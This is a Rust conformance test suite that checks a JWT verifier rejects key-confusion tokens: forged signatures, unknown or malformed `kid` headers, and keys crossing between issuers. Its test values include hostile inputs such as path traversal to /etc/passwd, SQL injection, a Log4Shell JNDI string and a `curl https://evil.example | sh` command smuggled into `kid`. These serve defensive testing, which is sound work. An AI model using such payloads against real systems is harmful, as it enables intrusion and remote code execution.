//! A token that chooses whose key verifies it.

use impersonation_conformance::drive::{App, Ask};
use impersonation_conformance::forge::{Key, Token};
use impersonation_conformance::table::{Family, Seen, Server};
use impersonation_core::key::StaticKeys;
use impersonation_core::testing::Issuer;
use impersonation_core::verify::Reason;
use impersonation_core::{Verifier, profile};
use serde_json::{Value, json};

use super::{controlled, servers};

const RFC8693: &str = "rfc8693";

pub(crate) fn family() -> Family {
    let about = "A token that chooses whose key verifies it: by a `kid` that is another key's, nobody's, no text, a path or \
                 a query, or by none at all.";
    let family = Family::new("key_confusion", about)
        .source("RFC 7515 §4.1.4", "https://www.rfc-editor.org/rfc/rfc7515#section-4.1.4", "`kid` is a hint")
        .source(
            "RFC 8725 §3.10",
            "https://www.rfc-editor.org/rfc/rfc8725#section-3.10",
            "claims are not to be trusted: `kid`",
        )
        .source(
            "OWASP/CheatSheetSeries#2391",
            "https://github.com/OWASP/CheatSheetSeries/pull/2391",
            "a `kid` looked up over the key sets of several issuers together",
        );
    missing(shapes(unknown(others(controlled(family)))))
}

/// A good signature, by another key of the set than the one that is named.
fn others(mut family: Family) -> Family {
    let server = Server::rfc8693();
    for (id, named, key) in [
        ("p256_2_as_p256_1", Key::p256(), Key::other_p256()),
        ("p256_1_as_p256_2", Key::other_p256(), Key::p256()),
        ("rsa_2_as_rsa_1", Key::rsa(), Key::other_rsa()),
        ("evil_p256", Key::p256(), Key::evil_p256()),
        ("evil_rsa", Key::rsa(), Key::evil_rsa()),
    ] {
        let token = server.acting().by(named).signed_by(key).compact();
        let about = "a key of the same kind under the name of another";
        family = family.refused((RFC8693, &server), id, about, &token, Reason::SignatureInvalid);
    }
    let seen = Seen::staff(&server);
    for (id, key) in [("control_p256_2", Key::other_p256()), ("control_rsa_2", Key::other_rsa())] {
        let about = "the control: a second key under its own name";
        family = family.accepted((RFC8693, &server), id, about, &server.acting().by(key).compact(), &seen);
    }
    family
}

/// Names that no key has, by a key that is known and by one that is not.
fn unknown(mut family: Family) -> Family {
    let server = Server::rfc8693();
    let huge = "k".repeat(4096);
    for (id, kid) in [
        ("empty", ""),
        ("blank", " "),
        ("other_case", "P256-1"),
        ("prefix", "p256"),
        ("suffix", "p256-1x"),
        ("trailing_blank", "p256-1 "),
        ("trailing_newline", "p256-1\n"),
        ("trailing_nul", "p256-1\u{0}"),
        ("nul", "\u{0}"),
        ("two", "p256-1,p256-2"),
        ("wildcard", "*"),
        ("regular_expression", ".*"),
        ("path", "../../../../dev/null"),
        ("windows_path", "..\\..\\NUL"),
        ("file", "file:///etc/passwd"),
        ("url", "https://evil.example/jwks.json"),
        ("query", "x' UNION SELECT 'secret' -- "),
        ("always_true", "p256-1' OR '1'='1"),
        ("command", "p256-1; curl https://evil.example | sh"),
        ("template", "${jndi:ldap://evil.example/a}"),
        ("percent", "p256%2D1"),
        ("homoglyph", "р256-1"),
        ("prototype", "__proto__"),
        ("constructor", "constructor"),
        ("index", "0"),
        ("none", "none"),
        ("huge", huge.as_str()),
    ] {
        let named = if kid.len() > 100 { format!("of {} bytes", kid.len()) } else { format!("{kid:?}") };
        for (whose, key) in [("own", Key::p256()), ("evil", Key::evil_p256())] {
            let token = server.acting().signed_by(key).header("kid", kid).compact();
            let about = format!("`kid` is {named}, the key is {whose}");
            family = family.refused((RFC8693, &server), &format!("{id}_{whose}"), &about, &token, Reason::KeyUnknown);
        }
    }
    for (id, kid) in [("path", "../../../../dev/null"), ("query", "x' UNION SELECT '' -- ")] {
        let token = server.acting().by(Key::secret("p256-1", "")).header("kid", kid).compact();
        let about = format!("HS256 by an empty secret, which {kid:?} would find");
        let id = format!("{id}_to_an_empty_secret");
        family = family.refused((RFC8693, &server), &id, &about, &token, Reason::AlgorithmNotAllowed);
    }
    family
}

/// A `kid` that is no text.
fn shapes(mut family: Family) -> Family {
    for (name, server) in &servers() {
        for (id, kid) in [
            ("number", json!(1)),
            ("null", Value::Null),
            ("true", json!(true)),
            ("array", json!(["p256-1"])),
            ("object", json!({ "kid": "p256-1" })),
        ] {
            let (id, about) = (format!("{name}_kid_{id}"), format!("`kid` is {kid}"));
            let token = server.acting().header("kid", kid).compact();
            family = family.refused((name, server), &id, &about, &token, Reason::HeaderMalformed);
        }
    }
    family
}

/// No `kid`: only one key must fit.
fn missing(mut family: Family) -> Family {
    let server = Server::rfc8693();
    for (id, key) in [("es256", Key::p256()), ("es256_evil", Key::evil_p256()), ("rs256", Key::rsa())] {
        let token = server.acting().by(key).without_header("kid").compact();
        let about = "no `kid`, and two keys that would fit";
        family = family.refused((RFC8693, &server), &format!("no_kid_{id}"), about, &token, Reason::KeyUnknown);
    }
    for (id, key) in [("es384", Key::p384()), ("eddsa", Key::ed25519())] {
        let (token, about) =
            (server.acting().by(key).without_header("kid"), "the control: no `kid`, and one key that fits");
        family = family.accepted(
            (RFC8693, &server),
            &format!("no_kid_{id}"),
            about,
            &token.compact(),
            &Seen::staff(&server),
        );
    }
    let clerk = Server::clerk();
    let token = clerk.acting().without_header("kid");
    let about = "the control: no `kid`, and a set of one key";
    family = family.accepted(("clerk", &clerk), "no_kid_clerk", about, &token.compact(), &Seen::staff(&clerk));
    let (evil, about) =
        (token.signed_by(Key::evil_rsa()).compact(), "no `kid`, and the one key that fits did not sign");
    family.refused(("clerk", &clerk), "no_kid_clerk_evil", about, &evil, Reason::SignatureInvalid)
}

#[tokio::test]
async fn a_name_finds_its_own_key_or_none() {
    family().hold().await;
}

/// Two issuers, whose keys have these names.
fn two(kid_of_a: &'static str, kid_of_b: &'static str) -> (App, impl Fn(&str, Key) -> String) {
    let keys = |key: Key| StaticKeys::jwks(json!({ "keys": [key.jwk()] }).to_string().as_bytes()).expect("a key set");
    let trusted = |iss, key| profile::rfc8693(iss).audience("api").keys(keys(key));
    let verifier = Verifier::builder()
        .trust(trusted("https://a.example", Key::p256().kid(kid_of_a)))
        .trust(trusted("https://b.example", Key::other_p256().kid(kid_of_b)))
        .build()
        .unwrap();
    let token = |iss: &str, key: Key| {
        Token::new(key, json!({ "iss": iss, "sub": "user_2", "aud": "api", "exp": 253_402_300_799_u64 })).compact()
    };
    (App::whoami(verifier), token)
}

async fn reason(app: &App, token: &str) -> Option<Reason> {
    let answer = Ask::get("/whoami").bearer(token).of(app).await;
    assert_eq!(answer.status == 200, answer.refusal.is_none());
    answer.refusal.and_then(|refusal| refusal.reason())
}

#[tokio::test]
async fn a_key_of_one_issuer_verifies_no_token_of_another() {
    let (a, b) = ("https://a.example", "https://b.example");
    for (kid_of_a, kid_of_b, foreign) in
        [("key-1", "key-1", Reason::SignatureInvalid), ("key-a", "key-b", Reason::KeyUnknown)]
    {
        let (app, token) = two(kid_of_a, kid_of_b);
        let [of_a, of_b] = [Key::p256().kid(kid_of_a), Key::other_p256().kid(kid_of_b)];
        assert_eq!(reason(&app, &token(a, of_a.clone())).await, None, "the control");
        assert_eq!(reason(&app, &token(b, of_b.clone())).await, None, "the control");
        assert_eq!(reason(&app, &token(a, of_b.clone())).await, Some(foreign));
        assert_eq!(reason(&app, &token(b, of_a.clone())).await, Some(foreign));
        let [claimed_a, claimed_b] = [of_b.kid(kid_of_a), of_a.kid(kid_of_b)];
        assert_eq!(reason(&app, &token(a, claimed_a)).await, Some(Reason::SignatureInvalid));
        assert_eq!(reason(&app, &token(b, claimed_b)).await, Some(Reason::SignatureInvalid));
    }
}

#[tokio::test]
async fn a_token_is_judged_by_the_rules_of_the_issuer_that_it_names() {
    let (plain, workos) = (Issuer::rfc8693(), Issuer::workos());
    let verifier = Verifier::builder()
        .trust(profile::rfc8693(plain.url()).audience("api").keys(plain.keys()))
        .trust(profile::workos(workos.url()).keys(workos.keys()))
        .build()
        .unwrap();
    let app = App::whoami(verifier);
    assert_eq!(reason(&app, &plain.session("agent_1").token()).await, None, "the control");
    assert_eq!(reason(&app, &workos.session("user_2").token()).await, None, "the control");
    let without_audience = plain.session("user_2").without("aud").claim("sid", "session_1").token();
    assert_eq!(reason(&app, &without_audience).await, Some(Reason::AudienceMismatch), "WorkOS wants none");
    let with_audience = workos.session("user_2").claim("aud", "api").token();
    assert_eq!(reason(&app, &with_audience).await, Some(Reason::NotASession), "the other wants one");
    let null = plain.session("user_2").claim("iss", workos.url()).claim("sid", "session_1").without("aud").token();
    assert_eq!(reason(&app, &null).await, Some(Reason::AlgorithmNotAllowed), "the algorithm is the other's");
}
